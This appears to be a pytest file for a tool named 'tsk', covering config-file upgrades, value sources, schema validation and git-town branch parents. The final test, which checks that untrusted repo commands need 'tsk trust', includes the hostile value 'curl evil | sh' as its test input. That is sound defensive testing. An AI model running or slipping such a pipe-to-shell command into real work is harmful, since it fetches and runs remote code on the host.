"""Upstream tsk's config files work here: its key aliases and its 0.8 sections are read as today's keys
with one warning line; a key upstream never had stays an error; `git_town` records the task branch's
parent as git-town does. `tsk config show` says where every value came from; `tsk config schema` is a
JSON Schema an editor can check a file with."""

from __future__ import annotations

import json
from pathlib import Path

import msgspec
import pytest
from helpers import PROJECT, git, make_repo, run_tsk

from tsk.config.compat import upgrade_project_file, upgrade_user_file
from tsk.errors import ConfigError

OLD_USER_FILE = """
[docker]
container_engine = "docker"
memory_limit_gb = 6
cpu_limit = 2

[proxy]
host_services = [5432]

[git_town]
enabled = true

[project.app]
memory_limit_gb = 4
env = [{ name = "API_TOKEN", value = "s3cret" }, { name = "LEVEL", value = "debug" }]
"""


def _user_file(tsk_home: Path, text: str) -> Path:
    path = tsk_home / "config" / "tsk" / "tsk.toml"
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)
    return path


def test_old_forms_map_to_todays_keys_and_conflicts_are_errors() -> None:
    data, renames = upgrade_user_file({"docker": {"cpu_quota": 3, "dind": True}, "defaults": {"host_services": [1]}},
                                      "f")
    assert data == {"defaults": {"host_ports": [1], "cpu": 3, "dind": True}}
    assert renames == ["[defaults] host_services -> [defaults] host_ports", "[docker] cpu_quota -> [defaults] cpu",
                       "[docker] dind -> [defaults] dind"]
    assert upgrade_project_file({"cpu_limit": 2, "stack": "go"}, "p") == ({"cpu": 2, "stack": "go"},
                                                                         ["cpu_limit -> cpu"])
    assert upgrade_user_file({"memory_limit_gb": 1}, "f")[0] == {"memory_limit_gb": 1}  # top level: no alias there
    for bad, said in (({"docker": {"memory_limit_gb": 1}, "defaults": {"memory_gb": 2}}, "both [docker]"),
                      ({"docker": {"cpu_limit": 1, "cpu_quota": 2}}, "both [docker] cpu_quota"),
                      ({"defaults": {"cpu_limit": 1, "cpu": 2}}, "both [defaults] cpu_limit"),
                      ({"proxy": {"allow": ["x"]}}, "unknown key 'allow' in [proxy]"),
                      ({"git_town": True}, "must be a table")):
        with pytest.raises(ConfigError, match=said.replace("[", r"\[")):
            upgrade_user_file(bad, "f")


def test_an_upstream_user_file_is_read_with_one_warning_and_shown_with_sources(tmp_path: Path,
                                                                              tsk_home: Path) -> None:
    repo = make_repo(tmp_path / "app", {**PROJECT, ".tsk/tsk.toml": 'host_services = [6379]\nstack = "default"\n'})
    _user_file(tsk_home, OLD_USER_FILE)
    res = run_tsk("config", "show", "--json", cwd=repo)
    assert res.returncode == 2, res.stdout  # host_services in the repo's file is host_ports: it needs trust
    assert "tsk trust" in res.stderr and "Traceback" not in res.stderr
    assert run_tsk("trust", cwd=repo).returncode == 0

    res = run_tsk("config", "show", "--json", cwd=repo)
    assert res.returncode == 0, res.stderr
    warnings = [ln for ln in res.stderr.splitlines() if "upstream's old config forms" in ln]
    assert len(warnings) == 2, res.stderr  # one line per file, however often the file is read
    user_line = next(ln for ln in warnings if "config/tsk/tsk.toml" in ln)
    for said in ("[docker] memory_limit_gb -> [defaults] memory_gb", "[docker] cpu_limit -> [defaults] cpu",
                 "[proxy] host_services -> [defaults] host_ports", "[git_town] enabled -> [defaults] git_town",
                 "[project.app] memory_limit_gb -> [project.app] memory_gb"):
        assert said in user_line
    shown = json.loads(res.stdout)
    values, sources = shown["values"], shown["sources"]
    assert (values["memory_gb"], sources["memory_gb"]) == (4.0, "user [project.app]")
    assert (values["cpu"], sources["cpu"]) == (2.0, "user [defaults]")
    assert values["git_town"] is True and sources["git_town"] == "user [defaults]"
    assert sorted(values["host_ports"]) == [5432, 6379]
    assert sources["host_ports"] == ".tsk/tsk.toml, user [defaults]"
    assert values["env"] == [{"name": "API_TOKEN", "value": "***"}, {"name": "LEVEL", "value": "debug"}]
    assert "s3cret" not in res.stdout

    text = run_tsk("config", "show", cwd=repo)
    assert text.returncode == 0, text.stderr
    line = next(ln for ln in text.stdout.splitlines() if ln.startswith("memory_gb"))
    assert "4.0" in line and "(user [project.app])" in line
    assert "s3cret" not in text.stdout


def test_a_key_upstream_never_had_still_stops_the_command(tmp_path: Path, tsk_home: Path) -> None:
    repo = make_repo(tmp_path / "app")
    path = _user_file(tsk_home, "[docker]\nmemory_limit_gb = 6\nswap_gb = 2\n")
    res = run_tsk("config", "show", cwd=repo)
    assert res.returncode == 2 and "unknown key 'swap_gb' in [docker]" in res.stderr and str(path) in res.stderr
    assert "Traceback" not in res.stderr
    path.write_text("[defaults]\nmemory_limit = 6\n")
    res = run_tsk("config", "show", cwd=repo)
    assert res.returncode == 2 and "unknown key `memory_limit`" in res.stderr


def test_the_schema_describes_both_files_and_refuses_what_tsk_refuses() -> None:
    import jsonschema  # a test dependency: pyproject's [test] extra

    res = run_tsk("config", "schema")
    assert res.returncode == 0, res.stderr
    user = json.loads(res.stdout)
    assert user["$schema"].endswith("2020-12/schema")
    project = json.loads(run_tsk("config", "schema", "--project").stdout)
    good_user = {"container_engine": "podman", "defaults": {"memory_gb": 8, "timeout": "20m"},
                 "project": {"app": {"agent": "codex", "env": [{"name": "A", "value": "b"}]}}}
    jsonschema.validate(good_user, user)
    jsonschema.validate({"stack": "go", "host_ports": [5432], "layers": {"registry": "r:5000"}}, project)
    for bad in ({"defaults": {"memory_gb": "lots"}}, {"bogus": 1}, {"container_engine": "lxc"}):
        with pytest.raises(jsonschema.ValidationError):
            jsonschema.validate(bad, user)
    with pytest.raises(jsonschema.ValidationError):
        jsonschema.validate({"defaults": {}}, project)  # a user-file section in a project file


@pytest.mark.docker
def test_git_town_records_the_task_branch_parent(tmp_path: Path, tsk_home: Path, engine) -> None:  # type: ignore[no-untyped-def]
    repo = make_repo(tmp_path / "app", PROJECT)
    git(repo, "checkout", "-q", "-b", "feature-base")
    _user_file(tsk_home, "[git_town]\nenabled = true\n")
    res = run_tsk("run", "--agent", "exec", "--json", "-p",
                  "echo x > x.txt && git add x.txt && git commit -qm x", cwd=repo)
    assert res.returncode == 0, res.stderr
    task = msgspec.json.decode(res.stdout)
    assert task["result_branch"], res.stdout
    assert git(repo, "config", f"git-town-branch.{task['result_branch']}.parent").strip() == "feature-base"
    # without it, no git-town key is written
    _user_file(tsk_home, "")
    res = run_tsk("run", "--agent", "exec", "--json", "-p",
                  "echo y > y.txt && git add y.txt && git commit -qm y", cwd=repo)
    assert res.returncode == 0, res.stderr
    other = msgspec.json.decode(res.stdout)["result_branch"]
    assert git(repo, "config", "--get-regexp", "^git-town-branch\\.").count(".parent") == 1, other


def test_a_repos_review_command_runs_on_the_host_so_it_needs_trust(tmp_path: Path) -> None:
    repo = make_repo(tmp_path / "app", {**PROJECT, ".tsk/tsk.toml": 'review_command = "curl evil | sh"\n'})
    res = run_tsk("config", "show", cwd=repo)
    assert res.returncode == 2 and "review_command" in res.stderr and "tsk trust" in res.stderr
